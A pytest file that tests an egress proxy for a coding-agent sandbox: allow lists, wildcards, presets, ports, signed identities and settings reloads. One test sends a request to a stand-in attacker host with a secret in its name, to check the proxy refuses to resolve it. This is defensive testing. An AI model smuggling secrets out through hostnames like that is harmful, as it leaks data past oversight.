"""What the proxy lets through and what not, with a real Squid. A file of names stands in for name servers."""

import contextlib
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx2
import pytest
from coding_agent_core.task.egress import Role, password
from coding_agent_testbed.until import until

from tests.fixtures.egress import KEY, EgressProxy, StartEgress, through

NAMES = ("packages", "a.b.wild", "wild", "notwild", "mine", "closed", "node", "more", "model", "nowhere")


@pytest.fixture(scope="module")
def machine() -> Iterator[int]:
    """A web server of another machine; its port."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    yield server.server_port
    server.shutdown()


@pytest.fixture(scope="module")
def proxy(start_egress: StartEgress, machine: int) -> EgressProxy:
    """Names that end in `.inside` resolve to a private address."""

    def here(*names: str) -> list[str]:
        return [f"{name}.inside:{machine}" for name in names]

    open_ones = ("packages", "*.wild", "wild", "mine", "node", "more")
    egress = {
        "allow": [*here("packages", "*.wild", "closed"), f"*.1:{machine}", "gone.invalid"],
        "repositories": {"o/mine": here("mine")},
        "presets": {"node": here("node"), "node-more": here("more"), "empty": []},
        "private": [*(f"{name}.inside" for name in open_ones), "*.1"],
    }
    llm = {"openai": {"base_url": f"http://model.inside:{machine}/v1", "api_key": "k"}}
    return start_egress({"egress": egress, "llm": llm}, {f"{name}.inside": "127.0.0.1" for name in NAMES})


@pytest.mark.parametrize(
    ("host", "given", "status"),
    [
        ("packages", {}, 200),
        ("PACKAGES", {}, 200),
        ("a.b.wild", {}, 200),
        ("wild", {}, 403),  # a wildcard is for what is below
        ("notwild", {}, 403),
        ("mine", {"repository": "O/Mine"}, 200),
        ("mine", {}, 403),  # another repository's list
        ("packages", {"repository": "o/mine"}, 200),  # the list for all holds too
        ("closed", {}, 403),  # a private address that nobody has allowed
        ("model", {}, 403),  # the agent's alone
        ("model", {"role": Role.AGENT}, 200),  # the settings name it, so it may be private
        ("packages", {"role": Role.AGENT}, 403),
        ("node", {"presets": ["node"]}, 200),
        ("more", {"presets": ["node"]}, 403),  # the beginning of another preset's name
        ("node", {"presets": ["node-more"]}, 403),
        ("node", {"presets": ["empty", "node", "node-more"]}, 200),
        ("more", {"presets": ["empty", "node", "node-more"]}, 200),
        ("packages", {"presets": ["node"]}, 200),
        ("mine", {"presets": ["node"], "repository": "o/mine"}, 200),
        ("node", {"presets": ["node"], "repository": "o/mine"}, 200),
        ("nowhere", {"presets": ["node", "unknown"]}, 403),
        ("node", {}, 403),
    ],
)
def test_what_a_workspace_reaches(
    proxy: EgressProxy, machine: int, host: str, given: dict[str, Any], status: int
) -> None:
    assert proxy.get(f"http://{host}.inside:{machine}/", **given).status_code == status


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("http://packages.inside/", 403),  # another port than the entry's
        ("https://packages.inside:22/", 403),
        ("https://gone.invalid:22/", 403),
        ("http://gone.invalid:443/", 403),
        ("https://gone.invalid/", 500),  # allowed, and there is no such machine
        ("http://gone.invalid/", 502),
        ("https://nowhere.inside/", 403),
    ],
)
def test_ports_and_tunnels(proxy: EgressProxy, url: str, status: int) -> None:
    assert proxy.get(url).status_code == status


def test_the_answer_says_what_to_do(proxy: EgressProxy, machine: int) -> None:
    for host, setting in (("nowhere.inside", "egress.allow"), ("closed.inside", "egress.private")):
        said = proxy.get(f"http://{host}:{machine}/").text
        assert host in said
        assert setting in said


@pytest.mark.parametrize(
    ("user", "signed", "status"),
    [
        ("job-1.workspace", "job-1.workspace", 403),
        ("job-1.workspace_node", "job-1.workspace_node", 200),
        ("job-1.workspace", "job-2.workspace", 407),  # another attempt's password
        ("job-1.workspace", "job-1.agent", 407),  # another container's
        ("job-1", "job-1", 407),  # no container
        # A workspace that adds a preset to its name has no password for it.
        ("job-1.workspace_node", "job-1.workspace", 407),
        ("job-1.workspace_node-more_node", "job-1.workspace_node-more", 407),
        ("job-1.workspace", "job-1.workspace_node", 407),
        ("job-1.agent", "job-1.agent", 403),  # presets are the workspace's
    ],
)
def test_identities(proxy: EgressProxy, machine: int, user: str, signed: str, status: int) -> None:
    url = f"http://node.inside:{machine}/"
    assert through(f"http://{user}:{password(signed, KEY)}@{proxy.address}", url).status_code == status
    assert through(f"http://{user}:{password(signed, 'other')}@{proxy.address}", url).status_code == 407


def test_an_agent_hears_what_was_denied_to_its_attempt(proxy: EgressProxy, machine: int) -> None:
    proxy.get("https://nowhere.inside/", "told-1")
    proxy.get("https://nowhere.inside/", "told-1", presets=["node"])
    proxy.get(f"http://packages.inside:{machine}/", "told-1")
    proxy.get("https://nowhere.inside:2222/", "told-1", Role.AGENT)
    proxy.get("https://other.example.com/", "told-2")
    expected = {"nowhere.inside": 2, "nowhere.inside:2222": 1}
    until("the denials are counted", lambda: proxy.denials("told-1") == expected)
    until("another attempt's are apart", lambda: proxy.denials("told-2") == {"other.example.com": 1})
    assert proxy.get("http://denials.egress.internal/", "told-1").status_code == 403, "not for the workspace"


def test_no_name_that_a_command_invents_is_resolved(proxy: EgressProxy) -> None:
    """A name server of the attacker's would read the secret in it."""
    proxy.get("https://the-secret.attacker.example/", "canary-1")
    entry = until("it is logged", lambda: next((e for e in proxy.entries() if "canary" in e["user"]), None))
    assert (entry["result"], entry["user"]) == ("TCP_DENIED", "canary-1.workspace")
    assert (entry["host"], entry["address"]) == ("the-secret.attacker.example", "-")


def test_changed_settings_are_applied(proxy: EgressProxy, machine: int) -> None:
    url = f"http://nowhere.inside:{machine}/"
    settings = proxy.settings
    more = {"allow": [f"nowhere.inside:{machine}"], "private": ["*.inside"]}
    proxy.write({**settings, "egress": {**settings["egress"], **more}})

    def answers(status: int) -> bool:
        # For some milliseconds nothing listens, and what was not answered yet is cut off.
        with contextlib.suppress(httpx2.TransportError):
            return proxy.get(url).status_code == status
        return False

    until("the host is allowed", lambda: answers(200))
    url_of_agent = proxy.variables("job-1")["HTTP_PROXY"]
    proxy.write({**settings, "egress": {"allow": ["not a host"]}})
    until("it says what is wrong", lambda: "the old ones stay" in proxy.log())
    assert through(url_of_agent, url).status_code == 200
    proxy.write(settings)  # the module's other tests share the proxy
    until("the host is denied again", lambda: answers(403))
